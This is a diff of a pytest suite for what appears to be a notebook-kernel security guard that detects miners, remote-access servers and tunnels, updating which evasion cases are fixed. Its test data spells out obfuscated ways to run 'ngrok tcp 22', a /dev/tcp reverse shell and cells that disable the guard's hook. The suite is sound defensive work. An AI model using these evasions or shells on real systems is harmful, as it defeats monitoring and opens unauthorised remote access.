@@ -281,10 +281,6 @@ def _xor(data: bytes, key: int = 0x5A) -> bytes:
     return bytes(b ^ key for b in data)
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "a Stratum miner in the kernel whose code is read from a file at run time (no cell check "
-    "sees it) is known only by behaviour: mining-busy-pool-connection needs 15 s of CPU and two "
-    "pushed jobs"))
 def test_a_miner_decrypted_and_exec_d_in_the_kernel_is_stopped(kernel, pool, tmp_path):
     blob = tmp_path / "weights.bin"
     blob.write_bytes(_xor((STANDINS / "quiet_miner.py").read_bytes()))
@@ -342,11 +338,15 @@ def test_an_asyncssh_server_unpickled_in_the_kernel_is_stopped(kernel, tmp_path)
             "threading.Thread(target=serve, daemon=True).start()\n")
     payload = tmp_path / "state.pkl"
     payload.write_bytes(pickle.dumps(_Exec(_xor(code.encode()))))
+    started = time.time()
     reply, text = kernel.run(
         f"import pickle, socket, time\npickle.load(open({str(payload)!r}, 'rb'))\n"
         f"while socket.socket().connect_ex(('127.0.0.1', {port})):\n    time.sleep(0.01)\n"
         f"print(time.time(), flush=True)\ntime.sleep({LIMIT + 3})", timeout=60)
-    listening = float(text.split()[0])
+    try:
+        listening = float(text.split()[0])
+    except ValueError:  # stopped before it listened: its exec'd code was read (channel.py)
+        listening = started
     found = wait_until(lambda: kernel.incidents("remote-access"), timeout=10,
                        what="a remote-access incident")
     assert (found[0]["user"], found[0]["kernel_id"]) == (USER, kernel.id)
@@ -385,10 +385,6 @@ def test_a_stratum_client_cell_is_refused(kernel, pool):
     assert found and (found[0]["user"], found[0]["kernel_id"]) == (USER, kernel.id)
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "the hook sends the raw cell (pre_run_cell's raw_cell), not what runs: an input "
-    "transformer registered by an earlier, harmless-looking cell rewrites the cell after it "
-    "was checked (kernel/extension.py: check the transformed source too)"))
 def test_an_input_transformer_cannot_rewrite_a_cell_after_its_check(kernel, pool):
     reply, text = kernel.run("get_ipython().input_transformers_post.append(\n"
                              "    lambda lines: [l.replace('@@', 'mining.') for l in lines])")
@@ -413,18 +409,12 @@ def test_a_cell_padded_with_distinct_constants_is_still_read_to_its_end(pool):
         assert "cell-stratum-client" in {d.signature.id for d in found}, filler[:40]
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "a cell whose check outlasts cell_check_timeout runs unchecked (kernel/extension.py: no "
-    "answer in time, run it): 10,000 harmless assignments before the code take seconds to read"))
 def test_a_cell_whose_check_outlasts_the_timeout_is_not_run(kernel, pool):
     filler = "\n".join(f"x{i} = 'v{i}'" for i in range(10_000))
     reply, text = kernel.run(filler + "\n" + STRATUM_CELL.format(pool=pool))
     assert _refused(reply), f"the cell ran: {reply['status']} {text[-200:]}"
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "the kernel sends only the first 256 Ki characters of a cell and the server reads only "
-    "those: a long comment before the code hides it (issue #17: check in parts or refuse)"))
 def test_a_cell_padded_past_the_checked_length_is_refused(kernel, pool):
     padding = "# " + "x" * (300 * 1024) + "\n"
     reply, text = kernel.run(padding + STRATUM_CELL.format(pool=pool))
@@ -440,9 +430,6 @@ def _tampering(kernel: Kernel) -> list[dict]:
     "get_ipython()._colab_guard.cell_timeout = 0",
     "import colab_guard.kernel.hook as h\nh._installed.enabled = False",
 ], ids=["transformer removed", "cell timeout zeroed", "audit hook silenced"])
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "the hook's own state is the user's to change: switched off from a cell, it goes quiet with "
-    "no tampering incident (issue #17: noticed at the next cell or heartbeat)"))
 def test_the_kernel_hook_switched_off_from_a_cell_is_tampering(kernel, pool, switch_off):
     reply, text = kernel.run(switch_off)
     assert reply["status"] == "ok", text
@@ -680,10 +667,10 @@ def test_the_dynamic_loader_listing_a_programs_libraries_is_no_run():
     assert _cell_signatures("!/lib64/ld-linux-x86-64.so.2 --list /usr/bin/microsocks") == set()
 
 
-#: Cell-check evasions still open (each runs ``ngrok tcp 22``, which the sampler stops by name
-#: once it runs: these are about refusing the cell before it runs). Tried beside the ones the
-#: cell check already reads (tests/test_cell_evasions.py).
-CELL_GAPS = [
+#: Cell-check evasions (each runs ``ngrok tcp 22``, which the sampler stops by name once it
+#: runs: these are about refusing the cell before it runs). Tried beside the ones the cell check
+#: already read (tests/test_cell_evasions.py). Read now (fixed in detect/cells.py):
+CELL_GAPS_READ = [
     ("an IPython macro", ["get_ipython().define_macro('m', '!ngrok tcp 22')", "m"]),
     ("an alias defined through the alias manager",
      ["get_ipython().alias_manager.define_alias('go', 'ngrok tcp 22')", "%go"]),
@@ -691,15 +678,12 @@ CELL_GAPS = [
     ("str.translate", ["import os\nos.system('ozspl gdh 22'.translate(str.maketrans('ozspl gdh', "
                        "'ngrok tcp')))"]),
     ("bytes XOR'd with a key", ["import os\nk = 7\nos.system(bytes(b ^ k for b in "
-                                "bytes.fromhex('6960756c68277364772735')).decode())"]),
+                                "bytes.fromhex('696075686c27736477273535')).decode())"]),
     ("int.to_bytes", ["import os\nos.system((0x6e67726f6b).to_bytes(5, 'big').decode() + ' tcp 22')"]),
     ("string.Template", ["import os, string\nos.system(string.Template('$a$b tcp 22')"
                          ".substitute(a='ng', b='rok'))"]),
     ("operator.methodcaller", ["import os, operator\noperator.methodcaller('system', 'ngrok tcp 22')(os)"]),
-    ("a dictionary of functions", ["import os\nd = {'go': os.system}\nd['go']('ngrok tcp 22')"]),
-    ("a lambda's default argument", ["import os\n(lambda f=os.system: f('ngrok tcp 22'))()"]),
     ("a walrus", ["import os\n(f := os.system)('ngrok tcp 22')"]),
-    ("a decorator", ["import os\n@os.system\ndef f(): pass"]),
     ("a sort key", ["import os\nsorted(['ngrok tcp 22'], key=os.system)"]),
     ("atexit", ["import atexit, os\natexit.register(os.system, 'ngrok tcp 22')"]),
     ("weakref.finalize", ["import os, weakref\nclass A: pass\na = A()\n"
@@ -709,12 +693,24 @@ CELL_GAPS = [
     ("%%perl", ["%%perl\nsystem('ngrok tcp 22')"]),
     ("%%ruby", ["%%ruby\nsystem('ngrok tcp 22')"]),
     ("%%script node", ["%%script node\nrequire('child_process').execSync('ngrok tcp 22')"]),
+]
+
+#: Still open (the decorator's os.system(f) would raise TypeError, and runs nothing).
+CELL_GAPS = [
+    ("a dictionary of functions", ["import os\nd = {'go': os.system}\nd['go']('ngrok tcp 22')"]),
+    ("a lambda's default argument", ["import os\n(lambda f=os.system: f('ngrok tcp 22'))()"]),
+    ("a decorator", ["import os\n@os.system\ndef f(): pass"]),
     ("marshal'd code", ["import marshal, base64\nexec(marshal.loads(base64.b64decode("
                         "'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAA"
                         "AAAAAQBkAVMAKQPpAAAAAE56DG5ncm9rIHRjcCAyMikC2gJvc9oGc3lzdGVtqQDzAAAAAPoIPHN0cmluZz76CDxt"
                         "b2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACdgACYAChAmILtEAGdQAGdAAGdAAGdAAGXIFAAAA')))"]),
     ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
 ]
+
+
+@pytest.mark.parametrize("what, cells", CELL_GAPS_READ, ids=[g[0] for g in CELL_GAPS_READ])
+def test_cell_check_gaps_closed(what, cells):
+    assert "proxy-known-tool" in _cell_signatures(*cells), what
 
 
 @pytest.mark.xfail(strict=True, raises=AssertionError,
